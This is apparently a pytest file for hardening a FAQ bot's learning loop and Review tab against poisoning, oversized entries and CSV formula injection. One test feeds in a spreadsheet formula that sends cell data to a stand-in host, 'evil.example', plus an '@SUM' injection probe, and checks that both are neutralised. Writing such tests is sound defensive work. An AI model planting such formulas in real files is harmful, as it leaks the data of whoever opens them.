"""Hardening 2 (issue 21), items 7 and 8: a learning loop that cannot be poisoned, a Review tab that writes what the reader reads.

Each test failed on the code before it (main f887792).
"""

from __future__ import annotations

import csv
import json

import pytest

from qa import Bot
from qa.alternates import ADDED_FAQ_FILE, ALTERNATES_FILE, append_faq
from qa.cli import main as cli_main
from qa.documents import load_document
from qa.indexing import build_index
from qa.review import Review

from .test_learning import FAQ, faq_data, faq_index, logged_bot  # noqa: F401  (fixtures)


# ---------------------------------------------------------------------------------------------- item 8

def test_8_choose_takes_only_a_suggestion_the_question_was_offered(faq_index, embedder, tmp_path):
    """`choose` accepted any retrieved passage: one call attached any question to any FAQ in the log."""
    bot = logged_bot(faq_index, embedder, tmp_path)
    answer = bot.ask("How long until I get my money back?")
    assert "faq:parking" in [h.passage.id for h in answer.passages]
    assert "faq:parking" not in [s.passage_id for s in answer.suggestions]
    with pytest.raises(ValueError, match="'faq:parking' is not among the candidates offered as suggestions"):
        bot.ask("How long until I get my money back?", choose="faq:parking")
    assert [r["chosen"] for r in bot.question_log.rows()] == [None]  # the refused pick is not evidence


def test_8_a_suggestion_that_was_offered_can_still_be_chosen(faq_index, embedder, tmp_path):
    unsure = logged_bot(faq_index, embedder, tmp_path, threshold=1.0)
    offered = unsure.ask("Do you open on Saturday?").suggestions
    assert offered
    picked = unsure.ask("Do you open on Saturday?", choose=offered[-1].passage_id)
    assert picked.answered and picked.citations[0].passage_id == offered[-1].passage_id


def test_8_an_alternate_that_repeats_another_faqs_question_is_refused_at_ingest(faq_data, tmp_path, embedder, capsys):
    """After `qa review --accept-all`, an FAQ's own question dropped from answered to suggested."""
    (faq_data / ALTERNATES_FILE).write_text(
        json.dumps({"id": "faq:office", "alternates": ["Which street are you on?"]}) + "\n"
        + json.dumps({"id": "faq:office", "alternates": ["when are you open", "Where do I park?"]}) + "\n",
        encoding="utf-8")
    build_index([faq_data], tmp_path / "index", embedder)
    bot = Bot(tmp_path / "index", embedder=embedder)
    office = next(p for p in bot.passages if p.id == "faq:office")
    assert office.alternates == ("Which street are you on?", "Where do I park?")
    answer = bot.ask("When are you open?")
    assert answer.answered and answer.citations[0].passage_id == "faq:hours"
    assert cli_main(["check", str(faq_data)]) == 0
    out = capsys.readouterr().out
    assert (f"{faq_data / ALTERNATES_FILE}:2: warning: 'when are you open' is the question of FAQ 'faq:hours': "
            "not added as an alternate of 'faq:office'") in out


# ---------------------------------------------------------------------------------------------- item 7

def test_7_a_new_faq_the_reader_would_refuse_is_not_written(faq_data):
    """A 150,005-character answer was written; every later build then failed on the file."""
    append_faq(faq_data, "What is the first rule?", "Be kind.")
    before = (faq_data / ADDED_FAQ_FILE).read_bytes()
    with pytest.raises(ValueError, match=r"not added: the reader would refuse it \(.*added-faq\.csv:3: bad CSV: "
                                         r"field larger than field limit"):
        append_faq(faq_data, "What is the long rule?", "x" * 150_005)
    assert (faq_data / ADDED_FAQ_FILE).read_bytes() == before
    assert [p.question for p in load_document(faq_data / ADDED_FAQ_FILE).passages] == ["What is the first rule?"]


def test_7_review_neutralises_formula_cells(faq_index, faq_data, embedder, tmp_path):
    """Review copied logged questions verbatim into CSV cells: `=HYPERLINK(...)` ran when the file was opened."""
    unsure = logged_bot(faq_index, embedder, tmp_path, threshold=1.0)
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"How do I pay by card?")'
    unsure.ask_many([hostile, "@SUM(1+1) how do I pay by card?"])
    review = Review(unsure, unsure.question_log, faq_data)
    cluster = next(c for c in review.queue() if hostile in c.questions)
    review.add_faq(cluster, "+How do I pay by card?", "-Cards are accepted at the front desk.")
    with open(faq_data / ADDED_FAQ_FILE, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["question", "answer", "alternates"]
    cells = rows[1]
    assert cells[0] == "'+How do I pay by card?" and cells[1] == "'-Cards are accepted at the front desk."
    assert cells[2].startswith("'=HYPERLINK(") or cells[2].startswith("'@SUM(")
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    passage = load_document(faq_data / ADDED_FAQ_FILE).passages[0]
    assert passage.text == "'-Cards are accepted at the front desk."


def test_8_one_askers_picks_do_not_set_a_candidate_two_askers_do(faq_index, faq_data, embedder, tmp_path):
    """One pick (or one thumbs-down) set a cluster's candidate: one user could point it anywhere offered."""
    unsure = logged_bot(faq_index, embedder, tmp_path, threshold=1.0)
    question = "Is the office open on Saturday?"
    shown = unsure.ask(question)
    first = shown.passages[0].passage.id
    other = next(s.passage_id for s in shown.suggestions if s.passage_id != first)
    for _ in range(3):
        unsure.ask(question, choose=other, asker="address 10.0.0.66")
    review = Review(unsure, unsure.question_log, faq_data)
    assert review.queue()[0].candidate.id == first  # the bot's own guess, not one asker's pick
    unsure.ask(question, choose=other, asker="login ann")
    assert review.queue()[0].candidate.id == other  # two askers agree


def test_8_one_askers_thumbs_down_does_not_redirect_a_candidate(faq_index, faq_data, embedder, tmp_path):
    bot = logged_bot(faq_index, embedder, tmp_path)
    answer = bot.ask("Where's the office?", asker="login mallory")
    assert answer.answered
    bot.feedback(answer.answer_id, False)
    review = Review(bot, bot.question_log, faq_data)
    assert review.queue()[0].candidate is None  # before: the next retrieved passage, on one user's word
    again = bot.ask("Where's the office?", asker="login ann")
    bot.feedback(again.answer_id, False)
    assert review.queue()[0].candidate.id == answer.passages[1].passage.id


def test_10_a_damaged_question_log_is_one_line_in_qa_review(faq_index, faq_data, tmp_path, capsys):
    """A damaged log gave a raw traceback in `qa review` (and "Error" badges in the Review tab)."""
    damaged = tmp_path / "damaged.sqlite3"
    damaged.write_bytes(b"SQLite format 3\x00" + b"\x17" * 4000)
    assert cli_main(["review", "--index", str(faq_index), "--log", str(damaged), "--data", str(faq_data)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith(f"error: cannot read the question log {damaged} (")
